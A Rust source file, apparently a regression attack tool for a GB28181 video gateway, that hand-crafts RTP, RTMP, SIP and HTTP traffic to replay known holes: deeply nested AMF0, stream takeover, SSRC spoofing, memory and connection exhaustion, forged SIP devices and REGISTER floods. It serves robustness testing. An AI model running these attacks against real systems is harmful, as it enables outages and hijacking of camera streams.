//! `gbgate attack`: replays the hostile inputs of issue #8 against a running gateway, so an
//! operator (and `tests/attack.rs`) can check that none of them crashes it, takes a stream over,
//! costs a legitimate camera a frame, or leaves memory and file descriptors behind.
//!
//! Every attack speaks the wire protocol by hand (raw RTP, RFC 4571, RTMP chunks and AMF0, SIP
//! text, HTTP/1.1): the point is to send what no well-behaved client library would. Attacks come
//! from `attacker_ip` (any 127/8 address on loopback stands for another host).
use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream, UdpSocket};

use crate::proto::rtp::write_packet;
use crate::proto::sip::digest;

/// Where the gateway listens, and who attacks it.
#[derive(Debug, Clone)]
pub struct AttackTarget {
    pub rtp: SocketAddr,
    pub rtsp: Option<SocketAddr>,
    pub rtmp: Option<SocketAddr>,
    pub sip: Option<SocketAddr>,
    pub api: Option<SocketAddr>,
    /// Source address of every attack (bind), e.g. 127.0.0.2.
    pub attacker_ip: IpAddr,
    /// The legitimate camera's SSRC (GB decimal form); its stream is `rtp/<SSRC hex>`.
    pub victim_ssrc: u32,
    /// A registered device the forged SIP requests pretend to be.
    pub victim_device: Option<String>,
    /// The gateway's SIP password, for attacks that need a valid digest (a leaked shared secret).
    pub sip_password: Option<String>,
    pub server_id: String,
    /// Scales every count (1.0 = the figures of issue #8).
    pub scale: f64,
    /// How long connection-holding attacks keep their connections.
    pub hold: Duration,
}

impl AttackTarget {
    fn n(&self, full: usize) -> usize {
        ((full as f64 * self.scale).round() as usize).max(1)
    }
}

/// The attacks, named after the holes of issue #8.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Attack {
    /// Hole 1: an AMF0 command nested 10,000 deep.
    RtmpDeepAmf0,
    /// Hole 2: RTMP publishes of the camera's name and of reserved prefixes.
    RtmpTakeover,
    /// Hole 2: RTP over TCP carrying the camera's SSRC from another address.
    RtpTcpTakeover,
    /// Hole 10: 6,000 datagrams with the camera's SSRC from another port.
    SsrcSpoof,
    /// Hole 9: 1,000 made-up SSRCs from one address.
    SsrcSquat,
    /// Hole 18: 20 streams of ~12 MB access units.
    HugeAccessUnits,
    /// Hole 16: 30 RTMP connections holding 12 MiB unfinished messages.
    RtmpMemory,
    /// Hole 12: idle and slow-drip connections on every TCP listener.
    IdleConnections,
    /// Hole 5: `Expires: 18446744073709551615`.
    SipHugeNumbers,
    /// Holes 11 and 14: a registered device's keepalive, Catalog and empty Catalog from elsewhere.
    ForgedDevice,
    /// Hole 6: unsolicited Catalogs with new SNs and SumNum 10,000.
    CatalogFlood,
    /// Holes 13 and 15: 10,500 REGISTERs with valid digest and `Expires: 1`.
    RegisterFlood,
    /// Hole 17: cross-site POST (text/plain, foreign Origin) and a rebinding Host.
    ApiCrossSite,
}

impl Attack {
    pub const ALL: [Attack; 13] = [
        Attack::RtmpDeepAmf0,
        Attack::RtmpTakeover,
        Attack::RtpTcpTakeover,
        Attack::SsrcSpoof,
        Attack::SsrcSquat,
        Attack::HugeAccessUnits,
        Attack::RtmpMemory,
        Attack::IdleConnections,
        Attack::SipHugeNumbers,
        Attack::ForgedDevice,
        Attack::CatalogFlood,
        Attack::RegisterFlood,
        Attack::ApiCrossSite,
    ];
}

/// What one attack did and what it saw of the gateway's answers.
#[derive(Debug, Clone, Serialize)]
pub struct AttackOutcome {
    pub attack: Attack,
    pub sent: u64,
    /// The gateway's answers, by kind (e.g. "NetStream.Publish.BadName": 3, "closed by server": 300).
    pub observed: std::collections::BTreeMap<String, u64>,
    /// A local failure that stopped the attack early (not a verdict on the gateway).
    pub error: Option<String>,
    pub elapsed_ms: u64,
}

impl AttackOutcome {
    fn new(attack: Attack) -> AttackOutcome {
        AttackOutcome { attack, sent: 0, observed: Default::default(), error: None, elapsed_ms: 0 }
    }
    fn saw(&mut self, what: impl Into<String>) {
        *self.observed.entry(what.into()).or_default() += 1;
    }
    /// How often `what` was observed.
    pub fn count(&self, what: &str) -> u64 {
        self.observed.get(what).copied().unwrap_or(0)
    }
}

/// The name the gateway gives an unannounced SSRC's stream.
pub fn rtp_stream_name(ssrc: u32) -> String {
    format!("rtp/{ssrc:08X}")
}

/// Runs one attack to its end.
pub async fn run(attack: Attack, t: &AttackTarget) -> AttackOutcome {
    let start = Instant::now();
    let mut out = AttackOutcome::new(attack);
    let result = match attack {
        Attack::RtmpDeepAmf0 => rtmp_deep_amf0(t, &mut out).await,
        Attack::RtmpTakeover => rtmp_takeover(t, &mut out).await,
        Attack::RtpTcpTakeover => rtp_tcp_takeover(t, &mut out).await,
        Attack::SsrcSpoof => ssrc_spoof(t, &mut out).await,
        Attack::SsrcSquat => ssrc_squat(t, &mut out).await,
        Attack::HugeAccessUnits => huge_access_units(t, &mut out).await,
        Attack::RtmpMemory => rtmp_memory(t, &mut out).await,
        Attack::IdleConnections => idle_connections(t, &mut out).await,
        Attack::SipHugeNumbers => sip_huge_numbers(t, &mut out).await,
        Attack::ForgedDevice => forged_device(t, &mut out).await,
        Attack::CatalogFlood => catalog_flood(t, &mut out).await,
        Attack::RegisterFlood => register_flood(t, &mut out).await,
        Attack::ApiCrossSite => api_cross_site(t, &mut out).await,
    };
    if let Err(e) = result {
        out.error = Some(e.to_string());
    }
    out.elapsed_ms = start.elapsed().as_millis() as u64;
    out
}

type AttackResult = std::io::Result<()>;

fn missing(what: &str) -> std::io::Error {
    std::io::Error::new(std::io::ErrorKind::InvalidInput, format!("no {what} address given"))
}

async fn tcp_from(ip: IpAddr, to: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = if to.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
    socket.bind(SocketAddr::new(ip, 0))?;
    tokio::time::timeout(Duration::from_secs(3), socket.connect(to))
        .await
        .map_err(|_| std::io::Error::new(std::io::ErrorKind::TimedOut, format!("connect to {to}")))?
}

async fn udp_from(ip: IpAddr) -> std::io::Result<UdpSocket> {
    UdpSocket::bind(SocketAddr::new(ip, 0)).await
}

/// Reads what arrives within `wait` (or until the peer closes). `closed` tells whether it did.
async fn read_for(s: &mut TcpStream, wait: Duration, limit: usize) -> (Vec<u8>, bool) {
    let deadline = tokio::time::Instant::now() + wait;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16 * 1024];
    while buf.len() < limit {
        match tokio::time::timeout_at(deadline, s.read(&mut chunk)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (buf, true),
            Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
            Err(_) => break,
        }
    }
    (buf, false)
}

/// Reads until `needle` has arrived (and a little more, for the rest of its message), the peer
/// closes, or `wait` passes.
async fn read_until(s: &mut TcpStream, needle: &[u8], wait: Duration) -> (Vec<u8>, bool) {
    let deadline = tokio::time::Instant::now() + wait;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 16 * 1024];
    while memchr::memmem::find(&buf, needle).is_none() && buf.len() < 1 << 20 {
        match tokio::time::timeout_at(deadline, s.read(&mut chunk)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (buf, true),
            Ok(Ok(n)) => buf.extend_from_slice(&chunk[..n]),
            Err(_) => return (buf, false),
        }
    }
    let (rest, closed) = read_for(s, Duration::from_millis(50), 64 * 1024).await;
    buf.extend_from_slice(&rest);
    (buf, closed)
}

/// Waits until the server closes `s` (EOF or reset), up to `wait`. Discards what it sends.
async fn closed_within(s: &mut TcpStream, wait: Duration) -> bool {
    let deadline = tokio::time::Instant::now() + wait;
    let mut chunk = [0u8; 4096];
    loop {
        match tokio::time::timeout_at(deadline, s.read(&mut chunk)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return true,
            Ok(Ok(_)) => continue,
            Err(_) => return false,
        }
    }
}

// ---------------------------------------------------------------------------------------------
// RTP

/// The synthetic test pattern (PS over RTP) with `ssrc`, as sendable datagrams.
fn pattern_packets(seconds: u32, ssrc: u32, seq0: u16) -> Vec<Vec<u8>> {
    crate::sim::pattern::rtp_packets(seconds)
        .into_iter()
        .enumerate()
        .map(|(i, (_, p))| {
            let mut v = p.to_vec();
            v[2..4].copy_from_slice(&seq0.wrapping_add(i as u16).to_be_bytes());
            v[8..12].copy_from_slice(&ssrc.to_be_bytes());
            v
        })
        .collect()
}

async fn rtp_tcp_takeover(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let mut s = tcp_from(t.attacker_ip, t.rtp).await?;
    let mut framed = Vec::new();
    for p in pattern_packets(3, t.victim_ssrc, 30_000) {
        framed.extend_from_slice(&(p.len() as u16).to_be_bytes());
        framed.extend_from_slice(&p);
        out.sent += 1;
    }
    // Slowly enough to look like a camera (the gateway reads at its pace), for up to 3 s.
    for chunk in framed.chunks(32 * 1024) {
        if s.write_all(chunk).await.is_err() {
            out.saw("closed by server");
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    if closed_within(&mut s, Duration::from_millis(500)).await {
        out.saw("closed by server");
    } else {
        out.saw("connection kept open");
    }
    Ok(())
}

async fn ssrc_spoof(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let sock = udp_from(t.attacker_ip).await?;
    let template = pattern_packets(1, t.victim_ssrc, 0);
    let total = t.n(6_000);
    let mut rng_seq: u16 = 0x4000;
    for i in 0..total {
        let mut p = template[i % template.len()].clone();
        // Sequence numbers far from the camera's, jumping about: the worst case for a reorder buffer.
        rng_seq = rng_seq.wrapping_mul(25_173).wrapping_add(13_849);
        p[2..4].copy_from_slice(&rng_seq.to_be_bytes());
        let _ = sock.send_to(&p, t.rtp).await;
        out.sent += 1;
        if i % 200 == 199 {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
    Ok(())
}

async fn ssrc_squat(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let sock = udp_from(t.attacker_ip).await?;
    let template = pattern_packets(1, 0, 0);
    let n = t.n(1_000);
    // Three packets in sequence per SSRC: enough to pass any probation that checks continuity.
    for round in 0..3u16 {
        for i in 0..n {
            let ssrc = 0x7000_0000u32.wrapping_add(i as u32);
            let mut p = template[usize::from(round) % template.len()].clone();
            p[2..4].copy_from_slice(&round.to_be_bytes());
            p[8..12].copy_from_slice(&ssrc.to_be_bytes());
            let _ = sock.send_to(&p, t.rtp).await;
            out.sent += 1;
            if i % 100 == 99 {
                tokio::time::sleep(Duration::from_millis(2)).await;
            }
        }
    }
    Ok(())
}

/// A PS pack header (MPEG-2), SCR 0.
fn ps_pack_header(out: &mut Vec<u8>) {
    out.extend_from_slice(&[0, 0, 1, 0xBA, 0x44, 0, 4, 0, 4, 1, 0x01, 0x89, 0xC3, 0xF8]);
}

async fn huge_access_units(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let streams = t.n(20);
    let au_bytes = 12 * 1024 * 1024;
    let sock = udp_from(t.attacker_ip).await?;
    // A filler that holds no start code (00 00 01), so the PES never ends early.
    let filler = vec![0x55u8; 60_000];
    let mut seq = vec![0u16; streams];
    let mut sent_bytes = 0usize;
    while sent_bytes < au_bytes {
        for (s, seq) in seq.iter_mut().enumerate() {
            let ssrc = 0x7100_0000 + s as u32;
            // One PES of ~60 kB (length 0 = unbounded video PES, ISO 13818-1 2.4.3.7) per round;
            // the first carries a pack header and a PTS, the rest continue the same access unit.
            let mut pes = Vec::with_capacity(filler.len() + 32);
            if sent_bytes == 0 {
                ps_pack_header(&mut pes);
                pes.extend_from_slice(&[0, 0, 1, 0xE0, 0, 0, 0x80, 0x80, 5, 0x21, 0, 1, 0, 1]);
                pes.extend_from_slice(&[0, 0, 0, 1, 0x65]);
            }
            pes.extend_from_slice(&filler);
            for chunk in pes.chunks(1400) {
                let mut p = Vec::with_capacity(chunk.len() + 12);
                write_packet(&mut p, 96, false, *seq, 0, ssrc, chunk);
                *seq = seq.wrapping_add(1);
                let _ = sock.send_to(&p, t.rtp).await;
                out.sent += 1;
            }
        }
        sent_bytes += filler.len();
        // ~20 streams x 60 kB per 10 ms: 120 MB/s, what loopback takes without losing it all.
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// RTMP (hand-written chunks: the point is to send what a client library would not)

mod amf0 {
    pub fn string(out: &mut Vec<u8>, s: &str) {
        out.push(0x02);
        out.extend_from_slice(&(s.len() as u16).to_be_bytes());
        out.extend_from_slice(s.as_bytes());
    }
    pub fn number(out: &mut Vec<u8>, n: f64) {
        out.push(0x00);
        out.extend_from_slice(&n.to_be_bytes());
    }
    pub fn null(out: &mut Vec<u8>) {
        out.push(0x05);
    }
    pub fn object(out: &mut Vec<u8>, props: &[(&str, &str)]) {
        out.push(0x03);
        for (k, v) in props {
            out.extend_from_slice(&(k.len() as u16).to_be_bytes());
            out.extend_from_slice(k.as_bytes());
            string(out, v);
        }
        out.extend_from_slice(&[0, 0, 9]);
    }
}

/// Client side of the plain RTMP handshake (C0 C1, S0 S1 S2, C2).
async fn rtmp_handshake(s: &mut TcpStream) -> std::io::Result<()> {
    let mut c0c1 = vec![3u8];
    c0c1.extend_from_slice(&[0u8; 8]);
    c0c1.extend((0..1528u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8));
    s.write_all(&c0c1).await?;
    let mut s0s1s2 = vec![0u8; 1 + 1536 + 1536];
    tokio::time::timeout(Duration::from_secs(5), s.read_exact(&mut s0s1s2))
        .await
        .map_err(|_| std::io::Error::new(std::io::ErrorKind::TimedOut, "RTMP handshake"))??;
    s.write_all(&s0s1s2[1..1537]).await
}

/// One RTMP message as chunks of `chunk_size` on chunk stream `csid` (< 64).
fn rtmp_message(csid: u8, type_id: u8, stream_id: u32, payload: &[u8], chunk_size: usize, out: &mut Vec<u8>) {
    out.push(csid);
    out.extend_from_slice(&[0, 0, 0]);
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.push(type_id);
    out.extend_from_slice(&stream_id.to_le_bytes());
    for (i, chunk) in payload.chunks(chunk_size).enumerate() {
        if i > 0 {
            out.push(0xC0 | csid);
        }
        out.extend_from_slice(chunk);
    }
}

fn set_chunk_size(size: u32, out: &mut Vec<u8>) {
    rtmp_message(2, 1, 0, &size.to_be_bytes(), 128, out);
}

fn connect_command(app: &str, tc_url: &str) -> Vec<u8> {
    let mut p = Vec::new();
    amf0::string(&mut p, "connect");
    amf0::number(&mut p, 1.0);
    amf0::object(&mut p, &[("app", app), ("type", "nonprivate"), ("flashVer", "FMLE/3.0"), ("tcUrl", tc_url)]);
    p
}

/// The status codes (`NetStream...`, `NetConnection...`) in what the server sent.
fn status_codes(bytes: &[u8]) -> Vec<String> {
    let mut codes = Vec::new();
    for prefix in [&b"NetStream."[..], &b"NetConnection."[..]] {
        let mut at = 0;
        while let Some(i) = memchr::memmem::find(&bytes[at..], prefix) {
            let start = at + i;
            let end = bytes[start..]
                .iter()
                .position(|b| !(b.is_ascii_alphanumeric() || *b == b'.'))
                .map_or(bytes.len(), |e| start + e);
            codes.push(String::from_utf8_lossy(&bytes[start..end]).into_owned());
            at = end;
        }
    }
    codes
}

async fn rtmp_deep_amf0(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let to = t.rtmp.ok_or_else(|| missing("RTMP"))?;
    let mut s = tcp_from(t.attacker_ip, to).await?;
    rtmp_handshake(&mut s).await?;
    let mut p = Vec::new();
    amf0::string(&mut p, "connect");
    amf0::number(&mut p, 1.0);
    // A strict array (AMF0 2.12) holding one strict array, 10,000 deep: 50 kB.
    for _ in 0..10_000 {
        p.extend_from_slice(&[0x0A, 0, 0, 0, 1]);
    }
    amf0::null(&mut p);
    let mut bytes = Vec::new();
    set_chunk_size(4096, &mut bytes);
    rtmp_message(3, 20, 0, &p, 4096, &mut bytes);
    s.write_all(&bytes).await?;
    out.sent += 1;
    if closed_within(&mut s, Duration::from_secs(5)).await {
        out.saw("closed by server");
    } else {
        out.saw("connection kept open");
    }
    Ok(())
}

async fn rtmp_takeover(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let to = t.rtmp.ok_or_else(|| missing("RTMP"))?;
    let victim = rtp_stream_name(t.victim_ssrc);
    let mut names = vec![victim, "gb/34020000001310000001".to_string(), "rtp/00000001".to_string()];
    if let Some(dev) = &t.victim_device {
        names.push(format!("gb/{dev}"));
    }
    for name in names {
        let (app, key) = name.split_once('/').unwrap_or(("live", name.as_str()));
        let mut s = tcp_from(t.attacker_ip, to).await?;
        rtmp_handshake(&mut s).await?;
        // As a real client does: connect, wait for its answer, createStream, wait, publish.
        let mut bytes = Vec::new();
        set_chunk_size(4096, &mut bytes);
        rtmp_message(3, 20, 0, &connect_command(app, &format!("rtmp://{to}/{app}")), 4096, &mut bytes);
        s.write_all(&bytes).await?;
        let (answer, _) = read_until(&mut s, b"NetConnection.Connect.", Duration::from_secs(3)).await;
        let mut create = Vec::new();
        amf0::string(&mut create, "createStream");
        amf0::number(&mut create, 2.0);
        amf0::null(&mut create);
        bytes.clear();
        rtmp_message(3, 20, 0, &create, 4096, &mut bytes);
        s.write_all(&bytes).await?;
        let _ = read_until(&mut s, b"_result", Duration::from_secs(3)).await;
        let mut publish = Vec::new();
        amf0::string(&mut publish, "publish");
        amf0::number(&mut publish, 0.0);
        amf0::null(&mut publish);
        amf0::string(&mut publish, key);
        amf0::string(&mut publish, "live");
        bytes.clear();
        rtmp_message(8, 20, 1, &publish, 4096, &mut bytes);
        s.write_all(&bytes).await?;
        out.sent += 1;
        let (mut more, _) = read_until(&mut s, b"NetStream.Publish.", Duration::from_secs(3)).await;
        more.splice(0..0, answer);
        let codes = status_codes(&more);
        let verdict = codes
            .iter()
            .find(|c| c.starts_with("NetStream.Publish."))
            .cloned()
            .unwrap_or_else(|| "no publish answer".to_string());
        out.saw(format!("{name}: {verdict}"));
        out.saw(verdict);
    }
    Ok(())
}

async fn rtmp_memory(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let to = t.rtmp.ok_or_else(|| missing("RTMP"))?;
    let conns = t.n(30);
    let body = 12 * 1024 * 1024;
    let mut held = Vec::new();
    for _ in 0..conns {
        let mut s = match tcp_from(t.attacker_ip, to).await {
            Ok(s) => s,
            Err(_) => {
                out.saw("connect refused");
                continue;
            }
        };
        if rtmp_handshake(&mut s).await.is_err() {
            out.saw("handshake refused");
            continue;
        }
        // A video message announcing 16 MiB - 1, of which 12 MiB is sent and the rest never.
        let chunk = 65_536usize;
        let mut head = Vec::new();
        set_chunk_size(chunk as u32, &mut head);
        head.push(6);
        head.extend_from_slice(&[0, 0, 0, 0xFF, 0xFF, 0xFF, 9, 1, 0, 0, 0]);
        let mut ok = s.write_all(&head).await.is_ok();
        let filler = vec![0x17u8; chunk];
        let mut sent = 0;
        while ok && sent < body {
            if sent > 0 {
                ok = s.write_all(&[0xC6]).await.is_ok();
            }
            ok = ok && s.write_all(&filler).await.is_ok();
            sent += chunk;
        }
        out.sent += 1;
        if ok {
            held.push(s);
        } else {
            out.saw("closed by server while sending");
        }
    }
    // Hold what the server kept, then count how many it closed meanwhile.
    let deadline = tokio::time::Instant::now() + t.hold;
    for mut s in held {
        let left = deadline.saturating_duration_since(tokio::time::Instant::now());
        if closed_within(&mut s, left).await {
            out.saw("closed by server");
        } else {
            out.saw("held open");
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// Idle and slow connections

async fn idle_connections(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let per_listener = t.n(300);
    let mut targets: Vec<(&str, SocketAddr)> = vec![("rtp", t.rtp)];
    targets.extend(t.rtsp.map(|a| ("rtsp", a)));
    targets.extend(t.rtmp.map(|a| ("rtmp", a)));
    targets.extend(t.sip.map(|a| ("sip", a)));
    targets.extend(t.api.map(|a| ("api", a)));
    let mut tasks = tokio::task::JoinSet::new();
    for (label, addr) in targets {
        for i in 0..per_listener {
            let (ip, hold) = (t.attacker_ip, t.hold);
            tasks.spawn(async move {
                let Ok(mut s) = tcp_from(ip, addr).await else { return (label, "connect refused") };
                // Half of the RTMP ones complete the handshake and then say nothing.
                if label == "rtmp" && i % 2 == 0 && rtmp_handshake(&mut s).await.is_err() {
                    return (label, "closed during handshake");
                }
                let deadline = tokio::time::Instant::now() + hold;
                let mut chunk = [0u8; 1024];
                loop {
                    // Slow drip: one byte every 2 s, never a whole request or frame.
                    let drip = tokio::time::Instant::now() + Duration::from_secs(2);
                    match tokio::time::timeout_at(drip.min(deadline), s.read(&mut chunk)).await {
                        Ok(Ok(0)) | Ok(Err(_)) => return (label, "closed by server"),
                        Ok(Ok(_)) => continue,
                        Err(_) if tokio::time::Instant::now() >= deadline => return (label, "held open"),
                        Err(_) => {
                            if s.write_all(b"O").await.is_err() {
                                return (label, "closed by server");
                            }
                        }
                    }
                }
            });
            out.sent += 1;
        }
    }
    while let Some(r) = tasks.join_next().await {
        if let Ok((label, what)) = r {
            out.saw(format!("{label}: {what}"));
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------------------------
// SIP (text by hand; the numbers and addresses are the attack)

struct SipClient {
    sock: UdpSocket,
    to: SocketAddr,
    local: SocketAddr,
    n: u64,
}

impl SipClient {
    async fn new(t: &AttackTarget) -> std::io::Result<SipClient> {
        let to = t.sip.ok_or_else(|| missing("SIP"))?;
        let sock = udp_from(t.attacker_ip).await?;
        let local = sock.local_addr()?;
        Ok(SipClient { sock, to, local, n: 0 })
    }

    fn branch(&mut self) -> String {
        self.n += 1;
        format!("z9hG4bKatk{}x{}", self.local.port(), self.n)
    }

    fn register(&mut self, t: &AttackTarget, device: &str, expires: &str, auth: Option<&str>) -> String {
        let (branch, local, n) = (self.branch(), self.local, self.n);
        let domain = &t.server_id[..10.min(t.server_id.len())];
        let auth = auth.map(|a| format!("Authorization: {a}\r\n")).unwrap_or_default();
        format!(
            "REGISTER sip:{sid}@{domain} SIP/2.0\r\nVia: SIP/2.0/UDP {local};rport;branch={branch}\r\n\
             From: <sip:{device}@{domain}>;tag=atk{n}\r\nTo: <sip:{device}@{domain}>\r\nCall-ID: atk{n}@{local}\r\n\
             CSeq: {n} REGISTER\r\nContact: <sip:{device}@{local}>\r\nMax-Forwards: 70\r\nExpires: {expires}\r\n\
             {auth}Content-Length: 0\r\n\r\n",
            sid = t.server_id,
        )
    }

    fn message(&mut self, t: &AttackTarget, device: &str, body: &str) -> String {
        let (branch, local, n) = (self.branch(), self.local, self.n);
        let domain = &t.server_id[..10.min(t.server_id.len())];
        format!(
            "MESSAGE sip:{sid}@{domain} SIP/2.0\r\nVia: SIP/2.0/UDP {local};rport;branch={branch}\r\n\
             From: <sip:{device}@{domain}>;tag=atk{n}\r\nTo: <sip:{sid}@{domain}>\r\nCall-ID: atkm{n}@{local}\r\n\
             CSeq: {n} MESSAGE\r\nMax-Forwards: 70\r\nContent-Type: Application/MANSCDP+xml\r\n\
             Content-Length: {len}\r\n\r\n{body}",
            sid = t.server_id,
            len = body.len(),
        )
    }

    async fn send(&self, text: &str) {
        let _ = self.sock.send_to(text.as_bytes(), self.to).await;
    }

    /// The next response's status code and its `WWW-Authenticate` value, within `wait`.
    async fn response(&self, wait: Duration) -> Option<(u16, Option<String>)> {
        let mut buf = vec![0u8; 65_536];
        let deadline = tokio::time::Instant::now() + wait;
        loop {
            let (n, _) = tokio::time::timeout_at(deadline, self.sock.recv_from(&mut buf)).await.ok()?.ok()?;
            let text = String::from_utf8_lossy(&buf[..n]);
            let Some(status) = text.strip_prefix("SIP/2.0 ") else { continue };
            let code = status.get(..3)?.parse().ok()?;
            let challenge =
                text.lines().find_map(|l| l.strip_prefix("WWW-Authenticate:").map(|v| v.trim().to_string()));
            return Some((code, challenge));
        }
    }

    /// REGISTER with a valid digest for `device` (the shared password leaked).
    async fn register_with_digest(&mut self, t: &AttackTarget, device: &str, expires: &str) -> Option<u16> {
        let password = t.sip_password.as_deref()?;
        let first = self.register(t, device, expires, None);
        self.send(&first).await;
        let (code, challenge) = self.response(Duration::from_secs(2)).await?;
        if code != 401 {
            return Some(code);
        }
        let domain = &t.server_id[..10.min(t.server_id.len())];
        let uri = format!("sip:{}@{domain}", t.server_id);
        let auth = digest::answer(&challenge?, "REGISTER", &uri, device, password, "0a4f113b")?;
        let second = self.register(t, device, expires, Some(&auth));
        self.send(&second).await;
        self.response(Duration::from_secs(2)).await.map(|(c, _)| c)
    }
}

fn keepalive_body(device: &str, sn: u64) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"GB2312\"?>\r\n<Notify>\r\n<CmdType>Keepalive</CmdType>\r\n\
         <SN>{sn}</SN>\r\n<DeviceID>{device}</DeviceID>\r\n<Status>OK</Status>\r\n</Notify>\r\n"
    )
}

fn catalog_body(device: &str, sn: u64, sum: i64, items: &[String]) -> String {
    let mut list = String::new();
    for id in items {
        list.push_str(&format!(
            "<Item>\r\n<DeviceID>{id}</DeviceID>\r\n<Name>forged</Name>\r\n<ParentID>{device}</ParentID>\r\n\
             <Status>ON</Status>\r\n</Item>\r\n"
        ));
    }
    format!(
        "<?xml version=\"1.0\" encoding=\"GB2312\"?>\r\n<Response>\r\n<CmdType>Catalog</CmdType>\r\n<SN>{sn}</SN>\r\n\
         <DeviceID>{device}</DeviceID>\r\n<SumNum>{sum}</SumNum>\r\n<DeviceList Num=\"{n}\">\r\n{list}</DeviceList>\r\n\
         </Response>\r\n",
        n = items.len()
    )
}

async fn sip_huge_numbers(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let mut c = SipClient::new(t).await?;
    let device = "34020000001329999001";
    for expires in ["18446744073709551615", "4294967296", "-1", "99999999999999999999999"] {
        // Unauthenticated first (parsed before any digest), then with a valid digest.
        let text = c.register(t, device, expires, None);
        c.send(&text).await;
        out.sent += 1;
        match c.response(Duration::from_secs(2)).await {
            Some((code, _)) => out.saw(format!("Expires {expires} unauthenticated: {code}")),
            None => out.saw(format!("Expires {expires} unauthenticated: no answer")),
        }
        if t.sip_password.is_some() {
            out.sent += 2;
            match c.register_with_digest(t, device, expires).await {
                Some(code) => out.saw(format!("Expires {expires} with digest: {code}")),
                None => out.saw(format!("Expires {expires} with digest: no answer")),
            }
        }
    }
    // Other numbers: CSeq, Max-Forwards and Content-Length past their ranges.
    for (header, value) in
        [("CSeq", "18446744073709551615 MESSAGE"), ("Max-Forwards", "4294967296"), ("Content-Length", "4294967295")]
    {
        let body = keepalive_body(device, 1);
        let text = c.message(t, device, &body);
        let text = text
            .lines()
            .map(|l| if l.starts_with(&format!("{header}:")) { format!("{header}: {value}") } else { l.to_string() })
            .collect::<Vec<_>>()
            .join("\r\n");
        c.send(&text).await;
        out.sent += 1;
        match c.response(Duration::from_secs(1)).await {
            Some((code, _)) => out.saw(format!("{header} {value}: {code}")),
            None => out.saw(format!("{header} {value}: no answer")),
        }
    }
    Ok(())
}

async fn forged_device(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let device = t.victim_device.clone().ok_or_else(|| missing("victim device"))?;
    let mut c = SipClient::new(t).await?;
    let sn = 900_000;
    let forged_channel = format!("{}131{}", &device[..device.len().min(10)], "0099999");
    let bodies = [
        ("keepalive", keepalive_body(&device, sn)),
        ("catalog with a forged channel", catalog_body(&device, sn + 1, 1, std::slice::from_ref(&forged_channel))),
        ("empty catalog SumNum 0", catalog_body(&device, sn + 2, 0, &[])),
        ("empty catalog SumNum -1", catalog_body(&device, sn + 3, -1, &[])),
    ];
    for (what, body) in bodies {
        let text = c.message(t, &device, &body);
        c.send(&text).await;
        out.sent += 1;
        match c.response(Duration::from_secs(1)).await {
            Some((code, _)) => out.saw(format!("{what}: {code}")),
            None => out.saw(format!("{what}: no answer")),
        }
    }
    Ok(())
}

async fn catalog_flood(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let mut c = SipClient::new(t).await?;
    let device = "34020000001329999002";
    if t.sip_password.is_some() {
        let code = c.register_with_digest(t, device, "3600").await;
        out.saw(format!("register: {}", code.map_or("no answer".to_string(), |c| c.to_string())));
    }
    let n = t.n(2_000);
    for sn in 0..n as u64 {
        let item = format!("3402000000132{:07}", sn % 10_000_000);
        let text = c.message(t, device, &catalog_body(device, 5_000_000 + sn, 10_000, &[item]));
        c.send(&text).await;
        out.sent += 1;
        if sn % 100 == 99 {
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }
    Ok(())
}

async fn register_flood(t: &AttackTarget, out: &mut AttackOutcome) -> AttackResult {
    let Some(password) = t.sip_password.clone() else {
        return Err(missing("SIP password (the flood uses valid digests)"));
    };
    let mut c = SipClient::new(t).await?;
    let n = t.n(10_500);
    let domain = t.server_id[..10.min(t.server_id.len())].to_string();
    let uri = format!("sip:{}@{domain}", t.server_id);
    // One challenge serves every device: nonces are stateless (RFC 2617 allows reuse until stale).
    let first = c.register(t, "34020000001320000000", "1", None);
    c.send(&first).await;
    let challenge = match c.response(Duration::from_secs(2)).await {
        Some((401, Some(ch))) => ch,
        other => {
            out.saw(format!("first REGISTER: {other:?}"));
            return Ok(());
        }
    };
    let mut codes = std::collections::BTreeMap::<u16, u64>::new();
    let mut buf = vec![0u8; 65_536];
    for i in 0..n {
        let device = format!("3402000000132{:07}", 100_000 + i);
        let auth = digest::answer(&challenge, "REGISTER", &uri, &device, &password, "0a4f113b").unwrap_or_default();
        let text = c.register(t, &device, "1", Some(&auth));
        c.send(&text).await;
        out.sent += 1;
        // Drain answers (and the gateway's own queries) without waiting.
        while let Ok((len, _)) = c.sock.try_recv_from(&mut buf) {
            let text = String::from_utf8_lossy(&buf[..len]);
            if let Some(code) = text.strip_prefix("SIP/2.0 ").and_then(|s| s.get(..3)).and_then(|s| s.parse().ok()) {
